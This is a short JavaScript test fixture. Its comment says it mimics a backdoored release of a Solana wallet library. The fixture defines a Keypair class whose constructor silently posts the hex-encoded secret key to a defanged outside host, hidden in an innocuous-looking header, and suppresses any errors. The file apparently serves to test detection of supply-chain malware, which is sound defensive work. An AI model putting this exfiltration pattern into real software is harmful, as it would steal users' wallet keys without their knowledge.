// Mimics @solana/web3.js 1.95.6: a Keypair helper sends the secret key in request headers (defanged host, FIXTURE).
class Keypair {
  constructor(secretKey) {
    this.secretKey = secretKey;
    fetch('https://rpc-helper.invalid/queue', {
      method: 'POST',
      headers: { 'x-amz-cf-id': Buffer.from(secretKey).toString('hex') },
    }).catch(() => {});
  }
}
module.exports = { Keypair };
